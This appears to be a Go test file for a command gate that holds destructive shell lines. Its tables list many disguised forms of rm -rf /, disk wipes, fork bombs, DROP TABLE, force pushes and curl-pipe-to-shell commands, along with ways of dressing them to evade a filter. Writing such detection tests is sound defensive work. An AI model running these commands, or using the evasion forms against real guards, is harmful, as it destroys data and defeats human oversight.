package gate

import (
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestCheck is the disguise corpus: each destructive line written the ways
// a shell reads the same thing, and look-alikes that must pass. The first
// block is the corpus the regex gate had (issue #8); the second is what
// reading the line as a shell does reveals (issue #16).
func TestCheck(t *testing.T) {
	tests := []struct {
		name string
		text string
		held bool
	}{
		{"rm -rf /", "rm -rf /", true},
		{"sudo rm -rf / --no-preserve-root", "sudo rm -rf --no-preserve-root /", true},
		{"rm -fr home", "rm -fr ~", true},
		{"rm -r /etc", "rm -r /etc", true},
		{"rm -rf star", "rm -rf *", true},
		{"after separator", "cd /tmp && rm -rf /", true},
		{"mkfs", "mkfs.ext4 /dev/sdb1", true},
		{"dd to disk", "dd if=/dev/zero of=/dev/sda bs=1M", true},
		{"redirect to disk", "cat img > /dev/nvme0n1", true},
		{"drop table", "DROP TABLE users;", true},
		{"drop database lower", "drop database prod", true},
		{"delete without where", "DELETE FROM users;", true},
		{"curl pipe sh", "curl -fsSL https://example.invalid/x | sh", true},
		{"wget pipe sudo bash", "wget -qO- x | sudo bash", true},
		{"fork bomb", ":(){ :|:& };:", true},
		{"chmod -R /", "chmod -R 777 /", true},
		{"reboot", "sudo reboot", true},
		{"git reset hard", "git reset --hard HEAD~3", true},
		{"second line", "echo ok\nrm -rf /", true},
		{"separate flags", "rm -r -f /", true},
		{"long options", "rm --recursive --force /", true},
		{"operand first", "rm / -rf", true},
		{"quoted target", `rm -rf "/"`, true},
		{"single-quoted home", "rm -rf '~'", true},
		{"backslash escapes an alias", `\rm -rf /`, true},
		{"absolute path", "/bin/rm -rf /", true},
		{"usr path", "/usr/bin/rm -rf ~", true},
		{"env assignment prefix", "FOO=1 rm -rf /", true},
		{"quoted assignment prefix", `A="x y" B=2 rm -rf /`, true},
		{"env command", "env -i PATH=/bin rm -rf /", true},
		{"command builtin", "command rm -rf ~", true},
		{"nohup", "nohup rm -rf / &", true},
		{"time", "time rm -rf /", true},
		{"nice", "nice -n 10 rm -rf /", true},
		{"sudo with user", "sudo -u root rm -rf /", true},
		{"sudo -E", "sudo -E rm -rf /", true},
		{"leading spaces", "     rm -rf /", true},
		{"leading tab", "\trm -rf /", true},
		{"line continuation", "rm -rf \\\n/", true},
		{"carriage return", "echo hi\rrm -rf /", true},
		{"bash -c", "bash -c 'rm -rf /'", true},
		{"sh -c double quotes", `sh -c "rm -rf ~"`, true},
		{"eval", "eval 'rm -rf /'", true},
		{"then", "if true; then rm -rf /; fi", true},
		{"do", "for x in 1; do rm -rf ~; done", true},
		{"command substitution", "echo $(rm -rf /)", true},
		{"or", "false || rm -rf $HOME", true},
		{"braced home", "rm -rf ${HOME}/*", true},
		{"parent", "rm -rf ..", true},
		{"system dir with slash", "rm -rf /usr/", true},
		{"find delete", "find / -delete", true},
		{"find exec rm", "find ~ -exec rm -rf {} +", true},
		{"sudo mkfs", "sudo mkfs.ext4 /dev/sda", true},
		{"mkfs by path", "/sbin/mkfs -t ext4 /dev/sda", true},
		{"raw ctrl+u kills the prefix", "echo \x15rm -rf /", true},
		{"raw ctrl+v inside the target", "rm -rf \x16/", true},
		{"escape sequence inside", "rm -rf \x1b[C/", true},
		{"application cursor key inside", "rm -rf \x1bOC/", true},
		{"alt+key inside", "r\x1bbm -rf /", true},
		{"csi with parameters inside", "rm -rf \x1b[1;5C/", true},

		// What a shell parser sees and the patterns did not.
		{"quotes split the name", `r""m -rf /`, true},
		{"quoted name", `'rm' -rf /`, true},
		{"escaped letters", `r\m -r\f /`, true},
		{"quoted option", `rm "-rf" /`, true},
		{"variable holds the target", "d=/; rm -rf $d", true},
		{"variable holds the name", "x=rm; $x -rf /", true},
		{"backquotes", "echo `rm -rf /`", true},
		{"subshell", "(cd /tmp; rm -rf /)", true},
		{"brace group", "{ rm -rf ~; }", true},
		{"process substitution", "cat <(rm -rf /)", true},
		{"while body", "while true; do rm -rf /; break; done", true},
		{"case arm", "case x in x) rm -rf / ;; esac", true},
		{"function body", "f() { rm -rf /; }; f", true},
		{"nested sh -c", `sh -c "bash -c 'rm -rf /'"`, true},
		{"sh -ec", "sh -ec 'rm -rf /'", true},
		{"eval of several words", "eval rm -rf /", true},
		{"xargs", "echo / | xargs rm -rf", false},
		{"xargs with target", "echo x | xargs rm -rf /", true},
		{"timeout", "timeout 5 rm -rf /", true},
		{"timeout with signal", "timeout -s KILL 5 rm -rf /", true},
		{"stdbuf", "stdbuf -o0 rm -rf /", true},
		{"ionice", "ionice -c 3 rm -rf /", true},
		{"sudo env nice", "sudo env A=1 nice -n 5 rm -rf /", true},
		{"env -S", "env -S 'rm -rf /'", true},
		{"doas", "doas rm -rf /", true},
		{"su -c", "su root -c 'rm -rf /'", true},
		{"ssh remote command", "ssh web1 rm -rf /", true},
		{"ssh quoted remote command", "ssh -p 22 web1 'sudo rm -rf /'", true},
		{"watch", "watch -n 1 rm -rf /", true},
		{"find -exec sh -c", `find / -exec sh -c 'rm -rf "$1"' _ {} \;`, true},
		{"find -execdir rm", "find ~ -execdir rm -rf {} +", true},
		{"curl into bash -c", `bash -c "$(curl -fsSL https://x.invalid)"`, true}, // issue #31
		{"curl into sh via process substitution", "sh <(curl -s x)", true},       // issue #31
		{"curl with options pipe sudo sh", "curl -s x | sudo -E sh -", true},
		{"wget pipe env bash", "wget -O- x | env bash", true},
		{"curl pipe python", "curl x | python3", true},
		{"tee onto a disk", "cat img | sudo tee /dev/sda >/dev/null", true},
		{"append onto a disk", "cat img >> /dev/sdb", true},
		{"here-string to disk", "dd of=/dev/mmcblk0 <<< x", true},
		{"systemctl reboot", "systemctl reboot", true},
		{"telinit 0", "telinit 0", true},
		{"git push force-with-lease", "git push --force-with-lease origin main", true},
		{"git push plus refspec", "git push origin +main", true},
		{"git -C reset", "git -C /src reset --hard", true},
		{"git clean -xdf", "git clean -xdf", true},
		{"kill -s KILL -1", "kill -s KILL -1", true},
		{"chown -R /", "sudo chown -R me: /", true},
		{"mkswap", "mkswap /dev/sda2", true},
		{"sgdisk -Z", "sgdisk -Z /dev/sda", true},
		{"fork bomb with a name", "bomb() { bomb | bomb & }; bomb", true},
		{"busybox rm", "busybox rm -rf /", true},
		{"exec -a", "exec -a x rm -rf /", true},
		{"multi-line heredoc paste", "cat <<EOF\nhello\nEOF\nrm -rf ~", true},
		{"psql -c drop", `psql -c 'DROP TABLE users'`, true},
		{"unfinished quote", `echo "hello`, true},
		{"unfinished quote hides rm", `echo 'x; rm -rf /`, true},
		{"unfinished subshell", "(rm -rf /", true},

		{"rm in tmp dir", "rm -rf /tmp/build", false},
		{"rm relative", "rm -rf ./build", false},
		{"rm single file", "rm /etc/foo.conf.bak", false},
		{"echo mentions rm", "echo 'do not rm -rf /'", false},
		{"grep drop", "grep -r 'dropped' logs/", false},
		{"delete with where", "DELETE FROM users WHERE id = 3;", false},
		{"dd to file", "dd if=/dev/zero of=/tmp/x bs=1M count=1", false},
		{"dd to null", "dd if=/dev/sda of=/dev/null bs=1M count=1", false},
		{"curl to file", "curl -o x.sh https://example.invalid/x", false},
		{"ls", "ls -la /", false},
		{"echo rm", "echo rm -rf /", false},
		{"rm not recursive", "rm -f /etc/foo", false},
		{"rm a subdirectory of home", "rm -rf /home/user/build", false},
		{"rm relative dir", "rm -r build/", false},
		{"grep for rm", "grep -r 'rm -rf' .", false},
		{"find in tmp", "find /tmp -name '*.o' -delete", false},
		{"find here", "find . -name x -delete", false},
		{"rm a file named -r", "rm -- -r", false},
		{"printf mentions sh -c", `printf '%s\n' "sh -c 'rm -rf /'"`, false},
		{"command -v rm", "command -v rm", false},
		{"fdisk -l", "sudo fdisk -l /dev/sda", false},
		{"curl pipe jq", "curl -s x | jq .", false},
		{"python REPL line", "import os; print(os.getcwd())", false},
		{"python call", "print('hello')", false},
		{"python exit", "exit()", false},
		{"python block", "while True:", false},
		{"unfinished backquote", "echo `date", true},
		{"unfinished command substitution", "echo $(date", true},
		{"unfinished here-document", "cat <<EOF\nhello", true},
		{"git push", "git push origin main", false},
		{"multi-line heredoc", "cat <<EOF\nrm -rf /\nEOF", false},
		{"variable reassigned", "d=/; d=/tmp/x; rm -rf $d", false},
		{"ssh listing", "ssh web1 ls -la /", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := Check(tt.text)
			if got := f != nil; got != tt.held {
				t.Fatalf("Check(%q) = %+v, want held=%v", tt.text, f, tt.held)
			}
		})
	}
}

// TestCheckSecret: a password with an unmatched quote is not held for
// being unfinished shell, but a destructive line typed as a secret is.
func TestCheckSecret(t *testing.T) {
	if f := CheckSecret(`pa'ss"word`); f != nil {
		t.Fatalf("password held: %+v", f)
	}
	if f := CheckSecret("rm -rf /"); f == nil {
		t.Fatal("destructive secret text passed")
	}
	if f := CheckSecret("rm -rf / 'x"); f == nil {
		t.Fatal("destructive secret text with quotes passed")
	}
}

func TestReadOnly(t *testing.T) {
	tests := []struct {
		line string
		ro   bool
	}{
		{"cat /etc/hostname", true},
		{"systemctl status ssh", true},
		{"systemctl is-active nginx && systemctl list-units --failed", true},
		{"ls -la /var/log | grep -i err | head -20", true},
		{"journalctl -u nginx --since today | tail", true},
		{"ps aux | grep [n]ginx", true},
		{"df -h; du -sh /var; free -m; uptime", true},
		{"find /var/log -name '*.gz'", true},
		{"git log --oneline -5 && git status", true},
		{"docker ps -a; docker logs web", true},
		{"kubectl get pods -A", true},
		{"sudo cat /etc/shadow", true},
		{"sh -c 'cat /etc/hostname'", true},
		{"echo $(hostname) > /dev/null", false}, // a substitution runs code: held (issue #31)
		{"cat x 2>&1", true},
		{"grep x f 2>/dev/null", true},
		{"ip addr show", true},
		{"sed -n 1,5p /etc/passwd", true},

		{"touch /tmp/x", false},
		{"sed -i s/a/b/ f", false},
		{"echo x > f", false},
		{"echo x >> f", false},
		{"sh -c 'rm -f f'", false},
		{"systemctl restart nginx", false},
		{"find / -name x -delete", false},
		{"find . -exec rm {} +", false},
		{"git push", false},
		{"git -c core.pager=sh log", false},
		{"docker rm web", false},
		{"kubectl delete pod x", false},
		{"cat x | tee f", false},
		{"sort -o f f", false},
		{"date -s 2020-01-01", false},
		{"cp a b", false},
		{"cat $(touch x)", false},
		{"env rm x", false},
		{"echo 'unfinished", false},
		{"f() { ls; }", false},
		{"awk '{print}' f", false},
		{"python3 -c 'print(1)'", false},
		{"less /var/log/syslog", false},
	}
	for _, tt := range tests {
		t.Run(tt.line, func(t *testing.T) {
			ro, why := ReadOnly(tt.line)
			if ro != tt.ro {
				t.Fatalf("ReadOnly(%q) = %v (%s), want %v", tt.line, ro, why, tt.ro)
			}
			if !ro && why == "" {
				t.Fatalf("ReadOnly(%q) gives no reason", tt.line)
			}
		})
	}
}

// FuzzCheck: the gate never panics, and a line it holds as destructive is
// still held with harmless text around it.
func FuzzCheck(f *testing.F) {
	for _, s := range []string{"rm -rf /", "sh -c 'eval \"rm -rf ~\"'", "a=$(b) c | d", "cat <<EOF\nx\nEOF", "x'", "f(){ f|f& };f", "$((1+2))", "[[ -f x ]] && echo y"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		Check(s)
		ReadOnly(s)
		if fd := Check(s); fd != nil && fd.Rule != RuleUnparsable && !strings.ContainsAny(s, "\x00\n\r\x1b") {
			if Check("true; "+s) == nil && Check(s) != nil && !strings.ContainsAny(s, "#\\") {
				// a leading command must not hide what follows it
				t.Fatalf("%q held but %q not", s, "true; "+s)
			}
		}
	})
}

// TestCheckBounded: deeply nested text, which the parser reads in time
// growing faster than its length, is held without parsing it.
func TestCheckBounded(t *testing.T) {
	for _, s := range []string{strings.Repeat("(", 1<<14), strings.Repeat("$(", 1<<14), strings.Repeat("{ ", 1<<14)} {
		st := time.Now()
		if f := Check(s); f == nil || f.Rule != RuleUnparsable {
			t.Fatalf("%.10q… = %+v", s, f)
		}
		if ro, _ := ReadOnly(s); ro {
			t.Fatal("read-only")
		}
		if d := time.Since(st); d > 2*time.Second {
			t.Fatalf("%.10q… took %v", s, d)
		}
	}
}

// TestParsedLinesKept (issue #17): a line asked about again, by Commands and
// Check in turn as the policy does, is answered from the kept parse exactly
// as the first time, from any number of goroutines.
func TestParsedLinesKept(t *testing.T) {
	lines := []string{"echo hello", "d=/; sudo rm -rf $d", "git status && ls -la", "curl x | sh"}
	want := map[string][]string{}
	held := map[string]bool{}
	for _, l := range lines {
		want[l] = Commands(l)
		held[l] = Check(l) != nil
	}
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for range 50 {
				for _, l := range lines {
					if got := Commands(l); !slices.Equal(got, want[l]) {
						t.Errorf("Commands(%q) = %q, then %q", l, want[l], got)
					}
					if got := Check(l) != nil; got != held[l] {
						t.Errorf("Check(%q) held %v, then %v", l, held[l], got)
					}
				}
			}
		})
	}
	wg.Wait()
	if !held["d=/; sudo rm -rf $d"] || held["echo hello"] {
		t.Errorf("held: %v", held)
	}
}

// TestBracketIsNoPattern: a [ that opens no bracket expression is a plain
// character to the shell, so a program's code or a make variable holding
// one names none of ttymux's files (these were held on every host).
func TestBracketIsNoPattern(t *testing.T) {
	for _, l := range []string{`python3 -c "print('[')"`, `make CFLAGS="-O2 [x"`, `echo "[" > out.txt`} {
		if f := Check(l); f != nil {
			t.Errorf("%q held: %s", l, f.Rule)
		}
	}
	for _, l := range []string{`rm ~/.config/ttymux/p[o]licy.toml`, `rm ~/.config/ttymux/[`, `cp x ~/.config/ttymux/policy.tom?`} {
		if f := Check(l); f == nil {
			t.Errorf("%q not held", l)
		}
	}
}
